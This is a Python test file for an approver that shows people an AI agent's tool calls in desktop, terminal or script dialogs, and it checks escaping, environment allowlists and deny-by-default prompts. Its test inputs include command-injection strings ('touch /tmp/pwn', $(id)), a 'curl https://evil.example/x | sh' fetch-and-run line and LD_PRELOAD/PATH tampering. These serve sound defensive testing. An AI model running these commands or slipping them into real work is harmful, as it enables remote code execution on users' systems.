"""Dialog backends: the exact command lines (all platforms), the exec: contract run for real,
the terminal prompt on a pty, the environment allowlist and backend selection."""

from __future__ import annotations

import asyncio
import base64
import json
import os
import pty
from pathlib import Path

import psutil
import pytest

from aip.approver.dialogs.base import Prompt, TextTooLarge, gui_env
from aip.approver.dialogs.choose import choose
from aip.approver.dialogs.exec_program import ExecProgram
from aip.approver.dialogs.gui import READ_ALL_CHECKBOX, ZENITY_FIT, Zenity
from aip.approver.dialogs.kdialog_xdialog import (
    KDIALOG_FIT,
    XDIALOG_FIT,
    XDIALOG_TEXT_MAX,
    Kdialog,
    Xdialog,
)
from aip.approver.dialogs.native import OSA_SCRIPT, OSASCRIPT_FIT, Osascript
from aip.approver.dialogs.powershell import POWERSHELL_FIT, POWERSHELL_SCRIPT, PowerShell
from aip.approver.dialogs.render import WHOLE, DialogFacts, Fit, display_arguments, render
from aip.approver.dialogs.terminal import Terminal
from aip.approver.dialogs.verdict import Answer
from aip.shared.errors import ConfigError
from aip.shared.outcomes import Outcome
from tests.support.approverproc import answer_program

PAYLOAD = '"& do shell script "touch /tmp/pwn" <b>x</b> & \\n $(id) `id` %PATH% \''


def _prompt(value: str = PAYLOAD, seconds: int = 30, fit: Fit = WHOLE, **more: str) -> Prompt:
    args = {"path": value, **more}
    shown = render(DialogFacts("write_file", "agent-1", "fs", "r", 1, seconds, 0), args, fit)
    return Prompt(
        1,
        "agent-1",
        "fs",
        "write_file",
        display_arguments(args),
        shown.text,
        "r",
        seconds,
        0,
        scroll=shown.scroll,
        withheld=shown.withheld,
    )


def test_zenity_command_line() -> None:
    prompt = _prompt(fit=ZENITY_FIT)
    argv = Zenity("/usr/bin/zenity").argv(prompt)
    assert argv[:4] == ["/usr/bin/zenity", "--question", "--no-markup", "--default-cancel"]
    assert argv[argv.index("--title") + 1] == "Agent Identity Protocol"
    assert argv[argv.index("--ok-label") + 1] == "Allow once"
    assert argv[argv.index("--cancel-label") + 1] == "Deny"
    assert "--extra-button" not in argv  # nothing offered to remember
    assert argv[-2:] == ["--text", prompt.text]


async def test_zenity_shows_a_long_request_whole_in_a_scrolling_view(tmp_path: Path) -> None:
    """Over 20 lines: ``--text-info`` with the text on stdin (never argv, never cut) and
    Allow enabled only by ticking the box; run through a stand-in zenity that records."""
    content = "A" * 200_000 + "; curl https://evil.example/x | sh"
    prompt = _prompt(fit=ZENITY_FIT, content=content)
    assert prompt.scroll
    fake = tmp_path / "zenity"
    fake.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > {tmp_path}/argv\ncat > {tmp_path}/stdin\n')
    fake.chmod(0o755)
    assert (await Zenity(str(fake)).show(prompt)).answer is Answer.ALLOW
    argv = (tmp_path / "argv").read_text().splitlines()
    assert argv[0] == "--text-info"
    assert argv[argv.index("--checkbox") + 1] == READ_ALL_CHECKBOX
    assert "--text" not in argv
    assert sum(len(a) for a in argv) < 300
    shown = (tmp_path / "stdin").read_text()
    assert shown == prompt.text
    assert content in shown.replace("\n    ", "")  # the whole value, unwrapped


async def test_a_failing_zenity_is_a_dialog_error_with_its_reason_logged(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    fake = tmp_path / "zenity"
    fake.write_text("#!/bin/sh\necho 'Gtk-WARNING: cannot open display: :0' >&2\nexit 1\n")
    fake.chmod(0o755)
    assert (await Zenity(str(fake)).show(_prompt(fit=ZENITY_FIT))).answer is Answer.ERROR
    assert "zenity failed with exit code 1: Gtk-WARNING: cannot open display: :0" in caplog.text


def test_withheld_prompts_offer_only_deny() -> None:
    content = "B" * 5000
    zenity = Zenity("/usr/bin/zenity").argv(_prompt(fit=KDIALOG_FIT, content=content))
    assert zenity[:2] == ["/usr/bin/zenity", "--warning"]
    assert "Allow" not in zenity
    kdialog = Kdialog("/usr/bin/kdialog").argv(_prompt(fit=KDIALOG_FIT, content=content))
    assert kdialog[3:6] == ["--ok-label", "Deny", "--error"]
    assert "allow" not in kdialog
    xdialog = Xdialog("/usr/bin/Xdialog").argv(_prompt(fit=XDIALOG_FIT, content=content))
    assert "--msgbox" in xdialog
    assert "--yesno" not in xdialog
    assert "Allow" not in xdialog
    osa = Osascript().argv(_prompt(fit=OSASCRIPT_FIT, content=content))
    assert osa[-1] == "deny-only"
    ps = json.loads(PowerShell("ps.exe").stdin(_prompt(fit=POWERSHELL_FIT, content=content)))
    assert ps["withheld"].startswith("too large to review")
    assert "$allow.Visible = $false" in POWERSHELL_SCRIPT


def test_backends_refuse_text_over_their_limit_instead_of_cutting_it() -> None:
    too_long = _prompt(content="C" * 5000)  # rendered whole, for an unlimited backend
    for backend in (Zenity("/z"), Kdialog("/k"), Xdialog("/x")):
        with pytest.raises(TextTooLarge):
            backend.argv(too_long)
    with pytest.raises(TextTooLarge):
        Osascript().argv(too_long)
    with pytest.raises(TextTooLarge):
        PowerShell("ps.exe").stdin(too_long)


def test_kdialog_command_line_is_fully_escaped_rich_text_with_deny_preselected() -> None:
    argv = Kdialog("/usr/bin/kdialog").argv(_prompt())
    text = argv[argv.index("--radiolist") + 1]
    assert text.startswith("<qt>")
    assert text.endswith("</qt>")
    inner = text[4:-5]
    assert "<" not in inner.replace("<br>", "")
    assert "\\" not in inner
    assert "&lt;b&gt;" in inner
    assert "&amp;" in inner
    assert "&#92;" in inner
    assert argv[-6:] == ["deny", "Deny", "on", "allow", "Allow once", "off"]


@pytest.mark.parametrize(
    "more",
    [
        {},
        {"content": "x\\n" + "A" * 3000 + "TAIL-VISIBLE"},
        {f"k{i}": "\\" * 60 for i in range(12)},  # each backslash is 3 bytes in Xdialog
        {"content": "\\" * 400},
        {f"decoy{i}": "x" for i in range(12)} | {"content": "curl x | sh"},
    ],
)
def test_xdialog_never_gets_more_than_its_limit_nor_a_backslash(more: dict[str, str]) -> None:
    """Xdialog cuts its label at 2,048 bytes on its own; we give it at most 1,500, or
    withhold Allow: it never drops a line of ours."""
    prompt = _prompt(fit=XDIALOG_FIT, **more)
    argv = Xdialog("/usr/bin/Xdialog").argv(prompt)
    text = argv[argv.index("--msgbox" if prompt.withheld else "--yesno") + 1]
    assert "\\" not in text
    assert len(text.encode()) <= XDIALOG_TEXT_MAX
    assert text.endswith("(\uff3c = backslash)")
    assert text.startswith("Agent: agent-1\nServer: fs\nRule: r\n")
    if not prompt.withheld:
        assert "--default-no" in argv
        assert all(f"  {name}: " in text for name in ("path", *more))


def test_osascript_script_is_constant_and_data_is_argv() -> None:
    prompt = _prompt()
    backend = Osascript()
    argv = backend.argv(prompt)
    assert argv == ["/usr/bin/osascript", "-", prompt.text, "30", "ask"]
    assert "touch /tmp/pwn" not in OSA_SCRIPT
    assert 'default button "Deny"' in OSA_SCRIPT
    assert 'cancel button "Deny"' in OSA_SCRIPT
    assert set(backend.env()) <= {"HOME", "LANG", "TMPDIR", "USER", "PATH"}


def test_powershell_command_line_is_identical_for_every_request() -> None:
    backend = PowerShell("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
    first, second = backend.argv(), backend.argv()
    assert first == second
    assert first[1:6] == [
        "-NoProfile",
        "-NonInteractive",
        "-ExecutionPolicy",
        "Bypass",
        "-EncodedCommand",
    ]
    script = base64.b64decode(first[6]).decode("utf-16-le")
    assert script == POWERSHELL_SCRIPT
    assert "[Console]::In.ReadToEnd()" in script
    assert "$form.AcceptButton = $deny" in script
    assert "touch /tmp/pwn" not in " ".join(first)
    data = json.loads(backend.stdin(_prompt()))
    assert "touch /tmp/pwn" in data["text"]
    assert data["seconds"] == 30


def test_gui_env_is_an_allowlist() -> None:
    env = gui_env(
        {
            "DISPLAY": ":9",
            "ZENITY_OK": "0",
            "DIALOG_CANCEL": "0",
            "LD_PRELOAD": "x",
            "GTK_MODULES": "y",
            "HOME": "/root",
            "PATH": "/evil",
        }
    )
    assert env == {"DISPLAY": ":9", "HOME": "/root", "LANG": "C.UTF-8", "PATH": "/usr/bin:/bin"}


async def test_exec_program_contract(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    env_out, stdin_out = tmp_path / "env.txt", tmp_path / "stdin.txt"
    prog = tmp_path / "prog.sh"
    prog.write_text(f"#!/bin/sh\nenv > {env_out}\ncat > {stdin_out}\necho allow\necho extra\n")
    prog.chmod(0o755)
    monkeypatch.setenv("AIP_TEST_X", "1")
    monkeypatch.setenv("ZENITY_OK", "0")
    monkeypatch.setenv("SECRET_TOKEN", "s")
    backend = ExecProgram.from_spec(f"exec:{prog}")
    assert (await backend.show(_prompt())).answer is Answer.ALLOW
    env = dict(line.split("=", 1) for line in env_out.read_text().splitlines() if "=" in line)
    assert env["PATH"] == "/usr/bin:/bin"
    assert env["AIP_TEST_X"] == "1"
    assert "ZENITY_OK" not in env
    assert "SECRET_TOKEN" not in env
    lines = stdin_out.read_text().splitlines()
    assert len(lines) == 1
    request = json.loads(lines[0])
    assert request["kind"] == "ask"  # "pair" for a remote pairing (tests/remote)
    assert set(request) == {
        "v",
        "kind",
        "request_id",
        "agent_id",
        "server",
        "tool",
        "arguments",
        "text",
        "rule",
        "seconds_left",
        "queue_position",
        "withheld",
        "remember",
    }
    assert request["text"].startswith("Agent: agent-1\n")
    assert request["withheld"] == ""
    assert request["remember"] == {"offered": False, "why_not": "not offered", "like": {}}


@pytest.mark.parametrize(
    ("behaviour", "expected"),
    [
        ("allow", Answer.ALLOW),
        ("deny", Answer.DENY),
        ("garbage", Answer.ERROR),
        ("fail", Answer.ERROR),
    ],
)
async def test_exec_answers(tmp_path: Path, behaviour: str, expected: Answer) -> None:
    backend = ExecProgram(str(answer_program(tmp_path, behaviour)))
    assert (await backend.show(_prompt())).answer is expected


async def test_exec_program_killed_at_the_deadline(tmp_path: Path) -> None:
    record = tmp_path / "rec.jsonl"
    os.environ["AIP_TEST_RECORD"] = str(record)
    try:
        backend = ExecProgram(str(answer_program(tmp_path, "never")))
        task = asyncio.ensure_future(backend.show(_prompt()))
        async with asyncio.timeout(10):
            while not _exists(record):  # noqa: ASYNC110 - another process writes it
                await asyncio.sleep(0.01)
        pid = json.loads(record.read_text().splitlines()[0])["pid"]
        task.cancel()
        await asyncio.wait([task])
        assert not _running(pid)
    finally:
        del os.environ["AIP_TEST_RECORD"]


def _exists(path: Path) -> bool:
    """A complete first line: answer.py creates the file, then writes its line."""
    return path.exists() and path.read_text().endswith("\n")


def _running(pid: int) -> bool:
    try:
        return psutil.Process(pid).status() != psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return False


def test_exec_spec_is_checked(tmp_path: Path) -> None:
    with pytest.raises(ConfigError):
        ExecProgram.from_spec("exec:relative/prog")
    with pytest.raises(ConfigError):
        ExecProgram.from_spec("exec:/bin/sh -c evil")
    with pytest.raises(ConfigError):
        ExecProgram.from_spec(f"exec:{tmp_path}/missing")
    writable = answer_program(tmp_path, "allow")
    writable.chmod(0o777)  # anyone could rewrite what decides the asks
    with pytest.raises(ConfigError, match="writable"):
        ExecProgram.from_spec(f"exec:{writable}")


async def test_terminal_prompt_flushes_typeahead_and_needs_the_word_allow() -> None:
    master, slave = pty.openpty()
    out = os.fdopen(os.dup(slave), "w")
    try:
        backend = Terminal(stdin_fd=slave, out=out)
        os.write(master, b"allow\n")  # typed before the question: must not count
        task = asyncio.ensure_future(backend.show(_prompt()))
        seen = b""
        async with asyncio.timeout(10):
            while b"anything else denies" not in seen:
                await asyncio.sleep(0.01)
                seen += os.read(master, 65536)
        assert b"The agent wants to call:" in seen
        os.write(master, b"yes\n")
        assert (await task).answer is Answer.DENY
        task = asyncio.ensure_future(backend.show(_prompt()))
        seen = b""
        async with asyncio.timeout(10):
            while b"anything else denies" not in seen:
                await asyncio.sleep(0.01)
                seen += os.read(master, 65536)
        os.write(master, b"allow\n")
        assert (await task).answer is Answer.ALLOW
    finally:
        out.close()
        os.close(master)
        os.close(slave)


def test_backend_selection() -> None:
    no_display: dict[str, str] = {}
    choice = choose("auto", platform="linux", env=no_display, tty=False)
    assert (choice.backend, choice.unavailable) == (None, Outcome.NO_DISPLAY)
    choice = choose("auto", platform="linux", env=no_display, tty=True)
    assert isinstance(choice.backend, Terminal)
    if Path("/usr/bin/zenity").exists():
        choice = choose("auto", platform="linux", env={"DISPLAY": ":5"}, tty=False)
        assert isinstance(choice.backend, Zenity)
        choice = choose("zenity", platform="linux", env={}, tty=False)
        assert (choice.backend, choice.unavailable) == (None, Outcome.NO_DISPLAY)
    choice = choose("terminal", env={}, tty=False)
    assert choice.unavailable is Outcome.NO_DISPLAY
    with pytest.raises(ConfigError):
        choose("qarma", env={}, tty=False)
    with pytest.raises(ConfigError):
        choose("powershell", env={"SystemRoot": "/nonexistent"}, tty=False)


def test_gui_dialogs_die_with_the_approver() -> None:
    from aip.approver.dialogs.gui import SETPRIV, orphan_proof

    wrapped = orphan_proof(["/usr/bin/zenity", "--question"])
    if Path(SETPRIV).exists():
        assert wrapped == [SETPRIV, "--pdeathsig", "KILL", "--", "/usr/bin/zenity", "--question"]
    else:
        assert wrapped == ["/usr/bin/zenity", "--question"]
